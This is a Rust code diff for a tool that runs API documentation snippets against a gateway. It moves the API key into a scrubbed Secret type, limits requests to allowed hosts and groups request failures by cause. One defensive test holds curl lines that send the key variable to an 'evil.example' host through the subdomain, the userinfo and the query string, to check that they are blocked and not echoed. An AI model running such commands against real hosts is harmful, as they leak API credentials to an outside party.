@@ -1,13 +1,16 @@
 //! Running snippets: placeholders and variables filled with the gateway's values, parsed into
 //! requests, allowed hosts only, matched to an operation, sent with bounded concurrency, and the
-//! answers checked against the spec. The key is redacted from everything reported.
+//! answers checked against the spec. The key is a [`Secret`], scrubbed from every reason reported.
+//! A failed request is reported once per distinct cause, with the number of examples it hit.
 
+use super::send::{self, Answer, SendError};
 use super::{language_name, Origin, Outcome, Report, Snippet};
 use crate::apigen::json_schema;
 use crate::apimatch::{Match, Router};
 use crate::catalog::{Catalog, Operation, Spec};
 use crate::diag::{Diagnostic, Span};
-use crate::snippets::{self, ParsedRequest};
+use crate::secret::Secret;
+use crate::snippets;
 use std::sync::atomic::{AtomicUsize, Ordering};
 use std::sync::Mutex;
 use std::time::Duration;
@@ -26,8 +29,8 @@ pub enum RunnerKind {
 pub struct Runner {
     /// The gateway's base URL (`http://127.0.0.1:8089`).
     pub base_url: String,
-    /// The API key (a secret: never reported).
-    pub key: String,
+    /// The API key (never reported: scrubbed from every reason).
+    pub key: Secret,
     /// The IntArk gateway URL pattern with `{instans}`; matching hosts are sent to `base_url`.
     pub gateway_pattern: String,
     /// Text writers put where the key goes.
@@ -46,6 +49,9 @@ pub struct Runner {
     pub progress: bool,
 }
 
+/// A snippet's index, report, finding, and whether its request failed (counted per cause).
+type Done = (usize, Report, Option<Diagnostic>, bool);
+
 struct Outcomes {
     reports: Vec<Report>,
     findings: Vec<Diagnostic>,
@@ -63,10 +69,10 @@ pub fn run(
         .redirect(reqwest::redirect::Policy::none())
         .pool_max_idle_per_host(0)
         .build()
-        .ok();
+        .map_err(|e| runner.key.scrub(&e.to_string()));
     let next = AtomicUsize::new(0);
     let done = AtomicUsize::new(0);
-    let results: Mutex<Vec<(usize, Report, Option<Diagnostic>)>> = Mutex::new(Vec::new());
+    let results: Mutex<Vec<Done>> = Mutex::new(Vec::new());
     let workers = runner.concurrency.clamp(1, 64).min(snippets.len().max(1));
     std::thread::scope(|scope| {
         for _ in 0..workers {
@@ -75,9 +81,20 @@ pub fn run(
                 let Some(snippet) = snippets.get(i) else {
                     break;
                 };
-                let (outcome, operation, reason) =
-                    one(runner, catalog, &router, client.as_ref(), snippet);
-                let reason = redact(&reason, &runner.key);
+                let _file = crate::error::processing(&snippet.file);
+                let Ran {
+                    outcome,
+                    operation,
+                    reason,
+                    request_failed,
+                } = one(
+                    runner,
+                    catalog,
+                    &router,
+                    client.as_ref().map_err(String::as_str),
+                    snippet,
+                );
+                let reason = runner.key.scrub(&reason);
                 let finding = finding(snippet, outcome, &reason, operation.as_deref());
                 let report = Report {
                     file: snippet.file.to_string_lossy().replace('\\', "/"),
@@ -91,7 +108,7 @@ pub fn run(
                 results
                     .lock()
                     .unwrap_or_else(std::sync::PoisonError::into_inner)
-                    .push((i, report, finding));
+                    .push((i, report, finding, request_failed));
                 let n = done.fetch_add(1, Ordering::Relaxed) + 1;
                 if runner.progress {
                     eprint!("\r  running examples: {n}/{}", snippets.len());
@@ -105,17 +122,65 @@ pub fn run(
     let mut results = results
         .into_inner()
         .unwrap_or_else(std::sync::PoisonError::into_inner);
-    results.sort_by_key(|(i, _, _)| *i);
+    results.sort_by_key(|(i, _, _, _)| *i);
     let mut out = Outcomes {
         reports: Vec::new(),
         findings: Vec::new(),
     };
-    for (_, report, finding) in results {
+    let mut failed_requests: Vec<(Report, Diagnostic)> = Vec::new();
+    for (_, report, finding, request_failed) in results {
+        match finding {
+            Some(finding) if request_failed => failed_requests.push((report.clone(), finding)),
+            finding => out.findings.extend(finding),
+        }
         out.reports.push(report);
-        out.findings.extend(finding);
     }
+    out.findings.extend(per_cause(failed_requests));
     crate::diag::sort(&mut out.findings);
     (out.reports, out.findings)
+}
+
+/// Requests that failed alike (an unreachable gateway, a refused connection, a timeout) as one
+/// finding per cause, at the first example it hit, with the count and the next few places.
+fn per_cause(failed: Vec<(Report, Diagnostic)>) -> Vec<Diagnostic> {
+    let mut by_cause: Vec<(String, Vec<(Report, Diagnostic)>)> = Vec::new();
+    for (report, finding) in failed {
+        match by_cause
+            .iter_mut()
+            .find(|(cause, _)| *cause == report.reason)
+        {
+            Some((_, alike)) => alike.push((report, finding)),
+            None => by_cause.push((report.reason.clone(), vec![(report, finding)])),
+        }
+    }
+    by_cause
+        .into_iter()
+        .map(|(cause, mut alike)| {
+            if alike.len() == 1 {
+                return alike.remove(0).1;
+            }
+            const SHOWN: usize = 3;
+            let count = alike.len();
+            let (_, first) = alike.remove(0);
+            let mut places: Vec<String> = alike
+                .iter()
+                .take(SHOWN)
+                .map(|(r, _)| format!("{}:{}", r.file, r.line))
+                .collect();
+            if count - 1 > SHOWN {
+                places.push(format!("and {} more", count - 1 - SHOWN));
+            }
+            Diagnostic::error(
+                "example",
+                first.span,
+                format!("{count} examples could not be checked: {cause}"),
+            )
+            .with_hint(format!(
+                "this one and {}; check that the gateway runs and answers, then run the examples again",
+                places.join(", ")
+            ))
+        })
+        .collect()
 }
 
 fn finding(
@@ -145,21 +210,13 @@ fn finding(
     }
 }
 
-fn redact(text: &str, key: &str) -> String {
-    if key.is_empty() {
-        text.to_string()
-    } else {
-        text.replace(key, "***")
-    }
-}
-
 /// Text a reader adapts, made runnable: emphasis around placeholders dropped, key placeholders filled.
 fn prepare(text: &str, runner: &Runner) -> String {
     let mut text = text.replace("**", "");
     let mut placeholders: Vec<&String> = runner.key_placeholders.iter().collect();
     placeholders.sort_by_key(|p| std::cmp::Reverse(p.len()));
     for p in placeholders {
-        text = text.replace(p.as_str(), &runner.key);
+        text = text.replace(p.as_str(), runner.key.expose());
     }
     text
 }
@@ -186,56 +243,116 @@ fn rewrite(url: &str, runner: &Runner) -> String {
     url.to_string()
 }
 
-fn origin_of(url: &str) -> Option<String> {
-    let (scheme, rest) = url.split_once("://")?;
-    let host = rest.split(['/', '?', '#']).next()?;
-    Some(format!("{scheme}://{host}").to_ascii_lowercase())
+/// `scheme://host[:port]` of a URL, lower-cased, without any user or password; `None` if it is not
+/// an absolute http(s) URL.
+fn origin_of(url: &url::Url) -> Option<String> {
+    if !matches!(url.scheme(), "http" | "https") {
+        return None;
+    }
+    Some(url.origin().ascii_serialization())
 }
 
-type One = (Outcome, Option<String>, String);
+/// `scheme://host[:port]` of a URL as written, without any `user:password@`.
+fn origin_as_written(url: &str) -> String {
+    let Some((scheme, rest)) = url.split_once("://") else {
+        return url.split(':').next().unwrap_or_default().to_string() + ":";
+    };
+    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
+    let host = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
+    format!("{scheme}://{host}")
+}
+
+/// The path of a URL as written (not normalised or encoded, as the catalog's templates are), empty
+/// as `/`.
+fn path_as_written(url: &str) -> &str {
+    let after_scheme = url.split_once("://").map_or(url, |(_, rest)| rest);
+    let path = after_scheme
+        .find(['/', '?', '#'])
+        .and_then(|at| after_scheme.get(at..))
+        .unwrap_or_default();
+    match path.split(['?', '#']).next() {
+        Some(p) if !p.is_empty() => p,
+        _ => "/",
+    }
+}
+
+/// What happened to one snippet.
+struct Ran {
+    outcome: Outcome,
+    operation: Option<String>,
+    reason: String,
+    /// A request got no answer (the reason names the gateway and the cause, alike for alike).
+    request_failed: bool,
+}
+
+impl Ran {
+    fn new(outcome: Outcome, operation: Option<String>, reason: impl Into<String>) -> Ran {
+        Ran {
+            outcome,
+            operation,
+            reason: reason.into(),
+            request_failed: false,
+        }
+    }
+}
 
 fn one(
     runner: &Runner,
     catalog: &Catalog,
     router: &Router,
-    client: Option<&reqwest::blocking::Client>,
+    client: Result<&reqwest::blocking::Client, &str>,
     snippet: &Snippet,
-) -> One {
+) -> Ran {
     if let Some(reason) = &snippet.skip {
-        return (Outcome::Skipped, None, reason.clone());
+        return Ran::new(Outcome::Skipped, None, reason.clone());
     }
     if snippet.todo {
-        return (
+        return Ran::new(
             Outcome::NotRun,
             None,
-            "holds a TODO placeholder (reported by the todo rule)".into(),
+            "holds a TODO placeholder (reported by the todo rule)",
         );
     }
     let text = prepare(&snippet.text, runner);
     let key = runner.key.clone();
     let vars = runner.key_variables.clone();
-    let env = move |name: &str| vars.iter().any(|v| v == name).then(|| key.clone());
+    let env = move |name: &str| {
+        vars.iter()
+            .any(|v| v == name)
+            .then(|| key.expose().to_string())
+    };
     let requests = match snippets::parse(snippet.language, &text, &env) {
         Ok(requests) => requests,
-        Err(e) => return (Outcome::NotRun, None, e.to_string()),
+        Err(e) => return Ran::new(Outcome::NotRun, None, e.to_string()),
     };
-    let allowed = origin_of(&runner.base_url);
+    let allowed = url::Url::parse(&runner.base_url)
+        .ok()
+        .as_ref()
+        .and_then(origin_of);
     let mut operation = None;
     for mut request in requests {
         request.url = rewrite(&request.url, runner);
-        let origin = origin_of(&request.url);
+        let parsed = match url::Url::parse(&request.url) {
+            Ok(parsed) => parsed,
+            Err(e) => {
+                return Ran::new(
+                    Outcome::NotRun,
+                    operation,
+                    format!("calls `{}`, which is not a URL ({e}); not run", request.url),
+                )
+            }
+        };
+        let origin = origin_of(&parsed);
         if origin.is_none() || origin != allowed {
-            return (
+            // As written (the parsed host may be punycode), without any user or password.
+            let shown = origin_as_written(&request.url);
+            return Ran::new(
                 Outcome::NotRun,
                 operation,
-                format!(
-                    "calls `{}`, which is not an allowed gateway; not run",
-                    origin.unwrap_or_else(|| request.url.clone())
-                ),
+                format!("calls `{shown}`, which is not an allowed gateway; not run"),
             );
         }
-        let after_origin = &request.url[allowed.as_ref().map_or(0, String::len)..];
-        let path = after_origin.split(['?', '#']).next().unwrap_or("/");
+        let path = path_as_written(&request.url);
         let (api, spec, op) = match router.find(&request.method, path) {
             Match::Found { api, spec, op, .. } => (api, spec, op),
             _ => return unmatched(runner, catalog, &request.method, path),
@@ -245,34 +362,38 @@ fn one(
         let op_ref = &spec_ref.operations[op];
         operation = Some(format!("{} {}", api_ref.id, op_ref.anchor));
         let answer = match runner.kind {
-            RunnerKind::Builtin => send(client, &request),
-            RunnerKind::Curl => send_with_curl(&request, runner.timeout),
+            RunnerKind::Builtin => send::builtin(client, &request),
+            RunnerKind::Curl => send::curl(&request, runner.timeout),
         };
         let answer = match answer {
             Ok(answer) => answer,
-            Err(e) => {
-                return (
-                    Outcome::Failed,
+            Err(SendError(cause)) => {
+                return Ran {
+                    outcome: Outcome::Failed,
                     operation,
-                    format!("the request failed: {e}"),
-                )
+                    reason: format!(
+                        "the request to `{}` failed: {cause}",
+                        allowed.as_deref().unwrap_or_default()
+                    ),
+                    request_failed: true,
+                }
             }
         };
         if let Err(reason) = check(snippet.expect, spec_ref, op_ref, &answer) {
-            return (Outcome::Failed, operation, reason);
+            return Ran::new(Outcome::Failed, operation, reason);
         }
     }
-    (Outcome::Passed, operation, String::new())
+    Ran::new(Outcome::Passed, operation, String::new())
 }
 
 /// Why a request matched no operation, as precisely as can be said.
-fn unmatched(runner: &Runner, catalog: &Catalog, method: &str, path: &str) -> One {
+fn unmatched(runner: &Runner, catalog: &Catalog, method: &str, path: &str) -> Ran {
     if let Some(word) = runner
         .path_placeholders
         .iter()
         .find(|w| path.contains(w.as_str()))
     {
-        return (Outcome::NotRun, None, format!("the path keeps the placeholder `{word}`; write the API's context path so the call can be checked"));
+        return Ran::new(Outcome::NotRun, None, format!("the path keeps the placeholder `{word}`; write the API's context path so the call can be checked"));
     }
     let api = catalog
         .apis
@@ -284,114 +405,10 @@ fn unmatched(runner: &Runner, catalog: &Catalog, method: &str, path: &str) -> On
         .max_by_key(|(_, c)| c.len());
     match api {
         Some((api, context)) if api.operations().next().is_none() => {
-            (Outcome::NotRun, None, format!("`{}` (context path `{context}`) has no spec in the catalog, so the call cannot be checked", api.title))
+            Ran::new(Outcome::NotRun, None, format!("`{}` (context path `{context}`) has no spec in the catalog, so the call cannot be checked", api.title))
         }
-        Some((api, _)) => (Outcome::Failed, None, format!("example calls an unknown operation of `{}`: {method} {path}; the docs have drifted from the API", api.title)),
-        None => (Outcome::Failed, None, format!("example calls an unknown operation: {method} {path}; no API in the catalog has this context path")),
-    }
-}
-
-struct Answer {
-    status: u16,
-    content_type: String,
-    body: Vec<u8>,
-}
-
-fn send(
-    client: Option<&reqwest::blocking::Client>,
-    request: &ParsedRequest,
-) -> Result<Answer, String> {
-    let client = client.ok_or("no HTTP client could be built")?;
-    let method =
-        reqwest::Method::from_bytes(request.method.as_bytes()).map_err(|e| e.to_string())?;
-    let mut builder = client.request(method, &request.url);
-    for (name, value) in &request.headers {
-        builder = builder.header(name.as_str(), value.as_str());
-    }
-    if let Some(body) = &request.body {
-        builder = builder.body(body.clone());
-    }
-    let response = builder.send().map_err(|e| chain(&e))?;
-    let status = response.status().as_u16();
-    let content_type = response
-        .headers()
-        .get("content-type")
-        .and_then(|v| v.to_str().ok())
-        .unwrap_or("")
-        .to_string();
-    let body = response.bytes().map_err(|e| e.to_string())?.to_vec();
-    Ok(Answer {
-        status,
-        content_type,
-        body,
-    })
-}
-
-fn chain(error: &dyn std::error::Error) -> String {
-    let mut text = error.to_string();
-    let mut source = error.source();
-    while let Some(cause) = source {
-        text.push_str(&format!(": {cause}"));
-        source = cause.source();
-    }
-    text
-}
-
-/// Run the real curl binary with the parsed request as arguments (no shell).
-fn send_with_curl(request: &ParsedRequest, timeout: Duration) -> Result<Answer, String> {
-    let mut command = std::process::Command::new("curl");
-    command.args([
-        "-sS",
-        "-i",
-        "-X",
-        &request.method,
-        "--max-time",
-        &timeout.as_secs().max(1).to_string(),
-    ]);
-    for (name, value) in &request.headers {
-        command.arg("-H").arg(format!("{name}: {value}"));
-    }
-    if let Some(body) = &request.body {
-        command.arg("--data-raw").arg(body);
-    }
-    command.arg("--url").arg(&request.url);
-    let output = command
-        .output()
-        .map_err(|e| format!("cannot run curl: {e}"))?;
-    if !output.status.success() {
-        return Err(String::from_utf8_lossy(&output.stderr).trim().to_string());
-    }
-    let raw = output.stdout;
-    let mut start = 0;
-    loop {
-        let head_end = raw[start..]
-            .windows(4)
-            .position(|w| w == b"\r\n\r\n")
-            .ok_or("curl printed no headers")?
-            + start;
-        let head = String::from_utf8_lossy(&raw[start..head_end]).into_owned();
-        let status: u16 = head
-            .split_whitespace()
-            .nth(1)
-            .and_then(|s| s.parse().ok())
-            .ok_or("curl printed no status")?;
-        if status == 100 {
-            start = head_end + 4;
-            continue;
-        }
-        let content_type = head
-            .lines()
-            .find_map(|l| {
-                l.split_once(':')
-                    .filter(|(n, _)| n.eq_ignore_ascii_case("content-type"))
-                    .map(|(_, v)| v.trim().to_string())
-            })
-            .unwrap_or_default();
-        return Ok(Answer {
-            status,
-            content_type,
-            body: raw[head_end + 4..].to_vec(),
-        });
+        Some((api, _)) => Ran::new(Outcome::Failed, None, format!("example calls an unknown operation of `{}`: {method} {path}; the docs have drifted from the API", api.title)),
+        None => Ran::new(Outcome::Failed, None, format!("example calls an unknown operation: {method} {path}; no API in the catalog has this context path")),
     }
 }
 
@@ -488,7 +505,7 @@ mod tests {
     fn runner() -> Runner {
         Runner {
             base_url: "http://127.0.0.1:9".into(),
-            key: "hemmelig".into(),
+            key: Secret::new("Hemmelig-Nøkkel"),
             gateway_pattern: "https://gw-{instans}.intark.uh-it.no".into(),
             key_placeholders: vec!["API-nøkkel".into(), "DIN-NØKKEL".into()],
             key_variables: vec!["API_NOKKEL".into()],
@@ -529,8 +546,101 @@ mod tests {
                 "-H \"X-Gravitee-Api-Key: **API-nøkkel**\" https://gw-**INSTANS**.x/**lonn**/",
                 &r
             ),
-            "-H \"X-Gravitee-Api-Key: hemmelig\" https://gw-INSTANS.x/lonn/"
+            "-H \"X-Gravitee-Api-Key: Hemmelig-Nøkkel\" https://gw-INSTANS.x/lonn/"
         );
-        assert_eq!(redact("key hemmelig leaked", "hemmelig"), "key *** leaked");
+        assert_eq!(r.key.scrub("key Hemmelig-Nøkkel leaked"), "key *** leaked");
+    }
+
+    fn snippet(text: &str) -> Snippet {
+        Snippet {
+            file: "content/a.md".into(),
+            line: 3,
+            language: crate::snippets::Language::Curl,
+            origin: Origin::Handwritten,
+            text: text.into(),
+            expect: None,
+            skip: None,
+            label: "a".into(),
+            todo: false,
+        }
+    }
+
+    #[test]
+    fn a_key_in_a_host_that_is_not_allowed_is_not_echoed_in_any_case() {
+        let r = runner();
+        let catalog = Catalog::default();
+        let router = Router::new(&catalog);
+        for text in [
+            "curl https://$API_NOKKEL.evil.example/x",
+            "curl https://u:$API_NOKKEL@evil.example/x",
+            "curl \"https://evil.example/x?k=$API_NOKKEL\"",
+        ] {
+            let ran = one(&r, &catalog, &router, Err("not needed"), &snippet(text));
+            let reason = r.key.scrub(&ran.reason);
+            assert_eq!(ran.outcome, Outcome::NotRun, "{text}: {reason}");
+            assert!(reason.contains("not an allowed gateway"), "{reason}");
+            for form in ["hemmelig", "nøkkel", "n%c3%b8kkel", "xn--"] {
+                assert!(!reason.to_lowercase().contains(form), "{text}: {reason}");
+            }
+        }
+    }
+
+    #[test]
+    fn paths_as_written() {
+        assert_eq!(path_as_written("http://h:1/a/}x{/ø?q=1#f"), "/a/}x{/ø");
+        assert_eq!(path_as_written("http://u:p@h:1"), "/");
+        assert_eq!(path_as_written("http://h?x=/y"), "/");
+    }
+
+    #[test]
+    fn alike_request_failures_are_one_finding_with_the_count() {
+        let failed: Vec<(Report, Diagnostic)> = (1..=31)
+            .map(|line| {
+                let report = Report {
+                    file: "content/a.md".into(),
+                    line,
+                    language: "curl",
+                    origin: Origin::Handwritten,
+                    operation: None,
+                    outcome: Outcome::Failed,
+                    reason: "the request to `http://127.0.0.1:1` failed: connection refused".into(),
+                };
+                let span = Span {
+                    file: "content/a.md".into(),
+                    line,
+                    column: 1,
+                };
+                (report, Diagnostic::error("example", span, "x"))
+            })
+            .chain(std::iter::once((
+                Report {
+                    file: "content/b.md".into(),
+                    line: 9,
+                    language: "curl",
+                    origin: Origin::Handwritten,
+                    operation: None,
+                    outcome: Outcome::Failed,
+                    reason: "the request to `http://127.0.0.1:1` failed: timed out".into(),
+                },
+                Diagnostic::error("example", Span::file_start("content/b.md"), "only one"),
+            )))
+            .collect();
+        let findings = per_cause(failed);
+        assert_eq!(findings.len(), 2, "{findings:#?}");
+        assert_eq!(
+            findings[0].message,
+            "31 examples could not be checked: the request to `http://127.0.0.1:1` failed: connection refused"
+        );
+        assert_eq!(findings[0].span.line, 1);
+        assert!(
+            findings[0]
+                .hint
+                .as_deref()
+                .unwrap_or_default()
+                .contains("content/a.md:2, content/a.md:3, content/a.md:4, and 27 more"),
+            "{:?}",
+            findings[0].hint
+        );
+        assert_eq!(findings[1].message, "only one");
     }
 }
